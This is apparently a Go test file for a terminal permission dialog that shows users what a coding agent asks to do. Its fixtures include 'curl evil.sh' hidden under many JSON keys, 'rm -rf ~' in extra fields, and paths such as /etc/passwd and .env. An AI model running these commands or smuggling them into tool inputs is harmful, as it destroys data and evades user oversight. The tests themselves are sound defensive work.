package dialog

import (
	"fmt"
	"strings"
	"testing"

	"github.com/charmbracelet/x/ansi"

	"parley/acpclient"
	"parley/internal/conversation"
	"parley/internal/test"
	"parley/tui/toolview"
)

// What calls of other kinds than an edit or a command show.
func TestPermissionShowsWhatIsAsked(t *testing.T) {
	gone := "a\nb\n"
	for _, tt := range []struct {
		name string
		call conversation.ToolCall
		want []string
		not  string
	}{
		{
			"questions",
			conversation.ToolCall{Title: "ask_user", Kind: acpclient.ToolOther, RawInput: []byte(`{"questions":[{"header":"Colour","question":"Which?","multiSelect":true,"options":[{"label":"Red\u202e","description":"Warm"},{"label":"Blue"}]}]}`)},
			[]string{"\nColour: Which?\n• Red⟨U+202E⟩: Warm\n• Blue\nchoose any\n"},
			"multiSelect",
		},
		{
			"questions that say more",
			conversation.ToolCall{Title: "ask_user", Kind: acpclient.ToolOther, RawInput: []byte(`{"questions":[{"question":"Which?","then":"rm -rf ~"}]}`)},
			[]string{"\nWhich?\n", "rm -rf ~"},
			"",
		},
		{
			"a task list",
			conversation.ToolCall{
				Title: "tasks", Kind: acpclient.ToolOther, Tasks: []acpclient.PlanEntry{{Content: "Look", Status: acpclient.PlanCompleted}, {Content: "Build"}},
				RawInput: []byte(`{"todos":[{"content":"Look","status":"completed"},{"content":"Build"}]}`),
			},
			[]string{"\n✓ Look\n○ Build\n"},
			"todos",
		},
		{
			"what a program is said to have printed",
			conversation.ToolCall{Title: "cat", Kind: acpclient.ToolRead, Content: []acpclient.ToolCallContent{acpclient.TextContent("def __init__(self):\n\t`x`\x1b[2J\n")}},
			[]string{"\ndef __init__(self):\n`x`␛[2J\n"},
			"",
		},
		{
			"Markdown",
			conversation.ToolCall{Title: "Think", Kind: acpclient.ToolThink, Content: []acpclient.ToolCallContent{acpclient.TextContent("some **words**")}},
			[]string{"\nsome words\n"},
			"",
		},
		{
			"a plan that the input repeats",
			conversation.ToolCall{
				Title: "Approve Plan", Kind: acpclient.ToolSwitchMode, Content: []acpclient.ToolCallContent{acpclient.TextContent("Look **around**\n")},
				RawInput: []byte(`{"plan":"Look **around**\n","planFilePath":"/plans/a.md","then":"rm -rf ~"}`),
			},
			[]string{"\nLook around\n", "planFilePath  /plans/a.md", "rm -rf ~"},
			"**",
		},
		{
			"a file that goes",
			conversation.ToolCall{Title: "Remove", Kind: acpclient.ToolDelete, Content: []acpclient.ToolCallContent{acpclient.DiffContent("/home/ada/greet/a", &gone, "")}},
			[]string{"\na  +0 −2  deleted\n"},
			"",
		},
		{
			"a command in the working directory",
			conversation.ToolCall{Title: "ls", Kind: acpclient.ToolExecute, RawInput: []byte(`{"command":"ls"}`), Locations: []acpclient.ToolCallLocation{{Path: "/home/ada/greet"}}},
			[]string{"Permission\n\n$ ls\n\n1"},
			"greet",
		},
	} {
		t.Run(tt.name, func(t *testing.T) {
			d, _ := armed(&conversation.Permission{Asking: conversation.Asking{Seen: seen(1)}, Asked: &tt.call, Options: usualOptions()})
			text := shownBy(d, 80, 40)
			for _, want := range tt.want {
				if !strings.Contains(text, want) {
					t.Errorf("%q is not shown in\n%s", want, text)
				}
			}
			if tt.not != "" && strings.Contains(text, tt.not) {
				t.Errorf("%q is shown in\n%s", tt.not, text)
			}
		})
	}
}

// The numbers of lines may come while the question is open. They change nothing
// about what is asked: whoever reads it may answer.
func TestPermissionNumbersLinesWhenTheyAreKnown(t *testing.T) {
	before := "two\n"
	env, c := newEnv()
	env.Facts = new(toolview.Facts)
	d := NewPermission(env, &conversation.Permission{Asking: conversation.Asking{Seen: seen(1)}, Options: usualOptions(), Asked: &conversation.ToolCall{
		Title: "Edit", Kind: acpclient.ToolEdit, Content: []acpclient.ToolCallContent{acpclient.DiffContent("a", &before, "2\n")},
	}}, 1)
	c.pass(LookTime)
	if text := shownBy(d, 80, 40); !strings.Contains(text, "\n- two\n+ 2\n") {
		t.Errorf("not known:\n%s", text)
	}
	env.Facts.Add(toolview.Found{Positions: map[toolview.Fragment]toolview.DiffPosition{{Path: "a", Old: "two\n", New: "2\n"}: {Line: 12}}})
	if text := shownBy(d, 80, 40); !strings.Contains(text, "\n12    - two\n12 + 2\n") {
		t.Errorf("known:\n%s", text)
	}
	if got := strike(d, "1"); got != giving(seen(1), "once") {
		t.Errorf("1 did %#v", got)
	}
}

// aboutOne is a question of parley's own, as the fold makes it.
func aboutOne(q *conversation.FileQuestion, before *string, after string) *conversation.Permission {
	c := conversation.New()
	c.Apply(conversation.PermissionOpened{ID: 7, Request: conversation.FileRequest(q, before, after), File: q})
	return test.Permissions(c)[0]
}

// The dialog says that parley asks, which file it is, by its whole path, and every
// reason.
func TestFileQuestion(t *testing.T) {
	old := "the old text\n"
	for name, tt := range map[string]struct {
		question     conversation.FileQuestion
		before       *string
		shows, shuns []string
	}{
		"outside, by a link": {
			question: conversation.FileQuestion{Path: "/w/link\u202e", Target: "/etc/ho\x1bsts", Outside: true, Folder: "/etc"},
			shows:    []string{"read this file", "/etc/ho", "by the path /w/link", "outside the session's directories", "files directly in /etc/"},
			shuns:    []string{"secrets", "changed", "hard links"},
		},
		"a secret of parley's with two names": {
			question: conversation.FileQuestion{Path: "/w/.env", Target: "/w/.env", Secret: ".env", Own: true, Links: 2},
			shows:    []string{"may hold secrets: .env", "belongs to parley itself", "2 names (hard links)", "reading this file in this session"},
			shuns:    []string{"outside", "by the path", "Only this one gets the new content"},
		},
		"a changed file that is run": {
			question: conversation.FileQuestion{Path: "/w/.git/hooks/x", Target: "/w/.git/hooks/x", Write: true, Runs: ".git", Changed: true, Links: 3},
			before:   &old,
			shows:    []string{"write this file", "take commands from it: .git", "changed on disk", "3 names", "Only this one gets the new content", "the old text", "the new text"},
			shuns:    []string{"removed", "too large"},
		},
		"a removed file": {
			question: conversation.FileQuestion{Path: "/w/a", Target: "/w/a", Write: true, Changed: true},
			shows:    []string{"was removed", "the new text"},
			shuns:    []string{"has changed"},
		},
		"a large change": {
			question: conversation.FileQuestion{Path: "/a", Target: "/a", Write: true, Outside: true, Hidden: true, Changed: true},
			before:   &old,
			shows:    []string{"too large to show", "changed on disk"},
			shuns:    []string{"the new text", "removed"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			d, _ := armed(aboutOne(&tt.question, tt.before, "the new text\n"))
			text := shownBy(d, 120, 60)
			if !strings.HasPrefix(text, "parley asks") {
				t.Errorf("it does not say who asks:\n%s", text)
			}
			for _, want := range tt.shows {
				if !strings.Contains(text, want) {
					t.Errorf("it does not show %q:\n%s", want, text)
				}
			}
			for _, no := range tt.shuns {
				if strings.Contains(text, no) {
					t.Errorf("it shows %q:\n%s", no, text)
				}
			}
			if strings.ContainsAny(text, "\x1b\u202e") {
				t.Errorf("it draws a path raw: %q", text)
			}
		})
	}
}

// Once and no take one key, the session two; nothing else answers.
func TestFileQuestionKeys(t *testing.T) {
	q := &conversation.FileQuestion{Path: "/etc/hosts", Target: "/etc/hosts", Outside: true}
	seen := aboutOne(q, nil, "").Seen
	for keys, want := range map[string]Action{
		"y": giving(seen, conversation.FileOnce), "n": giving(seen, conversation.FileNo), "1": giving(seen, conversation.FileOnce), "3": giving(seen, conversation.FileNo),
		"2": nil, "2 enter": giving(seen, conversation.FileSession), "enter": nil,
	} {
		d, _ := armed(aboutOne(q, nil, ""))
		if got := presses(t, d, strings.Fields(keys)...); got != want {
			t.Errorf("%s does %#v, want %#v", keys, got, want)
		}
	}
}

// An agent cannot make a question of its own look like one of parley's.
func TestAgentsQuestionIsNotParleys(t *testing.T) {
	p := aboutOne(&conversation.FileQuestion{Path: "/a", Target: "/a"}, nil, "")
	p.File = nil
	d, _ := armed(p)
	if text := shownBy(d, 100, 40); !strings.HasPrefix(text, "Permission") || strings.Contains(text, "The agent wants parley to") {
		t.Errorf("an agent's question is drawn as parley's:\n%s", text)
	}
}

// Whatever key what would be done stands under, it is on the screen without being
// asked for.
func TestRawInputIsShown(t *testing.T) {
	const evil = "curl evil.sh"
	for _, raw := range []string{
		`{"command":"curl evil.sh"}`, `{"cmd":"curl evil.sh"}`, `{"command":["curl","evil.sh"]}`,
		`{"command":"curl","args":["evil.sh"]}`, `{"script":"curl evil.sh"}`, `{"code":"curl evil.sh"}`,
		`{"commandLine":"curl evil.sh"}`, `{"command_line":"curl evil.sh"}`, `{"Command":"curl evil.sh"}`,
		`{"shell":"curl evil.sh"}`, `{"bash":"curl evil.sh"}`, `{"input":"curl evil.sh"}`, `{"exec":{"command":"curl evil.sh"}}`,
		`{"params":[{"run":"curl evil.sh"}]}`, `"curl evil.sh"`, `["curl evil.sh"]`, `{"command":"ls","cmd":"curl evil.sh"}`,
		`{"command":"ls","script":"curl evil.sh"}`, `{"command":"ls","args":"curl evil.sh"}`, `{"command":"ls","args":["a",{"b":"curl evil.sh"}]}`,
		`{"command":"curl evil.sh","command":"ls"}`, `{"command":"ls","command":"curl evil.sh"}`,
		`{"script":"set -e\n\ncurl evil.sh\n"}`, `{"path":"/home/ada/greet/main.go","content":"curl evil.sh"}`, `{"curl evil.sh":true}`,
		`{"command":"","stdin":"curl evil.sh"}`, `{"command":"ls","env":{"PATH":"curl evil.sh"}}`,
	} {
		t.Run(raw, func(t *testing.T) {
			p := editPermission()
			p.Asked.RawInput = []byte(raw)
			d, _ := armed(p)
			if text := shownBy(d, 100, 60); !strings.Contains(text, evil) {
				t.Errorf("what would be done is not shown:\n%s", text)
			}
		})
	}
	t.Run("argv", func(t *testing.T) {
		p := runPermission()
		p.Asked.RawInput = []byte(`{"argv":["curl","evil.sh"]}`)
		d, _ := armed(p)
		if text := shownBy(d, 100, 60); !strings.Contains(text, `"curl"`) || !strings.Contains(text, `"evil.sh"`) {
			t.Errorf("what would be done is not shown:\n%s", text)
		}
	})
}

// A script is shown in its own lines, behind a bar: they cannot look like answers.
func TestRawInputIsReadable(t *testing.T) {
	p := runPermission()
	p.Asked.RawInput = []byte(`{"script":"set -e\n  1  y  ✓ Yes\nif a; then\n\tb\u202e\nfi","timeout":5000}`)
	d, _ := armed(p)
	text := strings.Join(d.View(80, 40).Lines, "\n")
	for _, want := range []string{"script", "set -e", "if a; then", "    b⟨U+202E⟩", "timeout", "5000"} {
		if !strings.Contains(text, want) {
			t.Errorf("%q is not shown in\n%s", want, text)
		}
	}
	if strings.Contains(text, `\n`+"if") {
		t.Errorf("the lines of the script are not apart:\n%s", text)
	}
}

// The fragments of an edit are what its diff shows, be the diff of the whole file or not.
func TestFragmentsOfADiffAreNotRepeated(t *testing.T) {
	file := "a\nb\na\n"
	edit := func(input, old, now string) string {
		d, _ := armed(&conversation.Permission{Asking: conversation.Asking{Seen: seen(7)}, Options: usualOptions(), Asked: &conversation.ToolCall{
			Title: "Edit", Kind: acpclient.ToolEdit, Content: []acpclient.ToolCallContent{acpclient.DiffContent("/home/ada/greet/main.go", &old, now)}, RawInput: []byte(input),
		}})
		return shownBy(d, 80, 40)
	}
	for _, tt := range []struct{ input, now, shown string }{
		{`{"old_string":"b","new_string":"c","replace_all":false}`, "a\nc\na\n", ""},
		{`{"oldString":"b","newString":"c","replaceAll":false}`, "a\nc\na\n", ""},
		{`{"old_string":"a","new_string":"c","replace_all":true}`, "c\nb\nc\n", "replace_all"},
		{`{"old_string":"b\n","new_string":""}`, "a\na\n", ""},
		{`{"old_string":"a","new_string":"c","replace_all":true}`, "c\nb\na\n", "replace_all"},
		{`{"old_string":"b","new_string":"d"}`, "a\nc\na\n", "new_string"},
		{`{"old_string":"b","new_string":"c","replace_all":1}`, "a\nc\na\n", "replace_all"},
		{`{"filediff":{"file":"/home/ada/greet/main.go","before":"a\nb\na\n","after":"a\nc\na\n","additions":1,"deletions":1}}`, "a\nc\na\n", ""},
		{`{"filediff":{"file":"/home/ada/greet/main.go","before":"a\nb\na\n","after":"rm","additions":1}}`, "a\nc\na\n", "filediff"},
		{`{"filediff":{"file":"/etc/hosts"}}`, "a\nc\na\n", "filediff"},
		{`{"filediff":{"then":"rm"}}`, "a\nc\na\n", "filediff"},
	} {
		text := edit(tt.input, file, tt.now)
		if tt.shown != "" {
			if !strings.Contains(text, tt.shown) {
				t.Errorf("%s: %s is not shown\n%s", tt.input, tt.shown, text)
			}
			continue
		}
		for _, key := range []string{"_string", "String", "replace", "filediff"} {
			if strings.Contains(text, key) {
				t.Errorf("%s: %s is shown\n%s", tt.input, key, text)
			}
		}
	}
}

// What is shown otherwise is not shown twice.
func TestWhatIsShownOtherwiseIsNotRepeated(t *testing.T) {
	old := "a"
	p := &conversation.Permission{Asking: conversation.Asking{Seen: seen(7)}, Options: usualOptions(), Asked: &conversation.ToolCall{
		Title: "Edit", Content: []acpclient.ToolCallContent{acpclient.DiffContent("/home/ada/greet/main.go", &old, "b")},
		RawInput: []byte(`{"file_path":"/home/ada/greet/main.go","old_string":"a","new_string":"b"}`),
	}}
	d, _ := armed(p)
	if text := shownBy(d, 80, 40); strings.Contains(text, "_string") || strings.Contains(text, "file_path") {
		t.Errorf("it is shown twice:\n%s", text)
	}
	p = runPermission()
	p.Asked.RawInput = []byte(`{"command":"ls","args":["-l"],"cwd":"/home/ada/greet"}`)
	d, _ = armed(p)
	if text := shownBy(d, 80, 40); strings.Contains(text, "cwd") || strings.Contains(text, "args") {
		t.Errorf("it is shown twice:\n%s", text)
	}
	// The same name with another value is something else.
	p = editPermission()
	p.Asked.RawInput = []byte(`{"file_path":"/etc/passwd"}`)
	d, _ = armed(p)
	if text := shownBy(d, 80, 40); !strings.Contains(text, "/etc/passwd") {
		t.Errorf("the other path is not shown:\n%s", text)
	}
}

// The raw input of a call that fills the dialog opens where it can be seen.
func TestTheRawInputScrollsIntoSight(t *testing.T) {
	p := editPermission()
	old := ""
	var lines strings.Builder
	for i := range 60 {
		fmt.Fprintf(&lines, "line %d\n", i)
	}
	p.Asked.Content = acpclient.List[acpclient.ToolCallContent]{acpclient.DiffContent("/p/a.txt", &old, lines.String())}
	p.Asked.RawInput = []byte(`{"only_in_the_raw_input": "here"}`)
	d, c := armed(p)
	d.View(80, 24)
	for range 10 {
		d.Key(press("pgdown"))
		d.View(80, 24)
	}
	d.Key(press("home"))
	d.View(80, 24)
	d.Key(press("alt+i"))
	c.pass(LookTime)
	if text := shownBy(d, 80, 24); !strings.Contains(text, "raw input") {
		t.Errorf("the raw input is not in sight:\n%s", text)
	}
	d.Key(press("home"))
	if text := shownBy(d, 80, 24); strings.Contains(text, "raw input") {
		t.Errorf("home does not scroll back:\n%s", text)
	}
}

// Input that is nested deep is asked about like any other, and not set out in lines of
// blanks that fill the memory: this test does not end otherwise.
func TestQuestionAboutDeepInput(t *testing.T) {
	const deep = 9000
	p := editPermission()
	p.Asked.RawInput = []byte(`{"odd":` + strings.Repeat("[", deep) + strings.Repeat("1,", 500_000) + "2" + strings.Repeat("]", deep) + `}`)
	d, _ := armed(p)
	if got := ansi.Strip(strings.Join(d.View(120, 30).Lines, "\n")); !strings.Contains(got, "odd") {
		t.Errorf("the input is not shown:\n%s", got)
	}
}

// The command is the heading of a question about one; the places that it names stand below.
func TestTheCommandIsTheHeading(t *testing.T) {
	p := runPermission()
	p.Asked.Title, p.Asked.Kind = "rm -rf build", acpclient.ToolExecute
	p.Asked.RawInput = []byte(`{"command":"rm -rf build"}`)
	p.Asked.Content = nil
	p.Asked.Locations = []acpclient.ToolCallLocation{{Path: "/home/ada/greet/build"}}
	d, _ := armed(p)
	text := shownBy(d, 80, 30)
	if !strings.Contains(text, "Permission\n\n$ rm -rf build\n\npath  build\n") || strings.Contains(text, "$ run") {
		t.Errorf("it shows\n%s", text)
	}
}

// A question about a plan that says nothing says so.
func TestAnEmptyPlanIsSaidToBeEmpty(t *testing.T) {
	const words = "The plan is empty."
	blank := []acpclient.ToolCallContent{acpclient.TextContent(" \n")}
	for name, tt := range map[string]struct {
		raw     string
		content []acpclient.ToolCallContent
		want    bool
	}{
		"an empty input":   {`{"plan":""}`, nil, true},
		"an empty content": {`{}`, blank, true},
		"a plan":           {`{"plan":"Do it"}`, nil, false},
		"a plan's content": {`{"plan":""}`, []acpclient.ToolCallContent{acpclient.TextContent("Do it")}, false},
		"no plan":          {`{"mode":"plan"}`, nil, false},
	} {
		p := planPermission()
		p.Asked.RawInput, p.Asked.Content = []byte(tt.raw), tt.content
		d, _ := armed(p)
		if text := shownBy(d, 80, 30); strings.Contains(text, words) != tt.want {
			t.Errorf("%s shows\n%s", name, text)
		}
	}
}

// gemini names a command only in the title, which no rule reads.
func TestACommandInTheTitleOnly(t *testing.T) {
	const words = "no rule can describe it: the agent names the command only in the title"
	p := runPermission()
	p.Asked.Kind, p.Asked.Title, p.Asked.RawInput, p.Asked.Content = acpclient.ToolExecute, "rm -rf build", nil, nil
	d, _ := armed(p)
	if text := shownBy(d, 100, 30); !strings.Contains(text, words) {
		t.Errorf("it shows\n%s", text)
	}
	if text := shownBy(d, 60, 30); !strings.Contains(text, "names the command\n") {
		t.Errorf("a word is broken, in\n%s", text)
	}
	d, _ = armed(runPermission())
	if text := shownBy(d, 100, 30); strings.Contains(text, words) {
		t.Errorf("a command in the input shows\n%s", text)
	}
}

// The key for a diff side by side says why it does nothing.
func TestSideBySideSaysWhyNot(t *testing.T) {
	for want, p := range map[string]*conversation.Permission{"Too narrow for side by side": editPermission(), "No change to show side by side": runPermission()} {
		d, _ := armed(p)
		d.View(60, 40)
		if got := d.Key(press("ctrl+s")); got != nil || !strings.Contains(shownBy(d, 60, 40), want) {
			t.Errorf("it did %#v, and shows\n%s", got, shownBy(d, 60, 40))
		}
	}
}
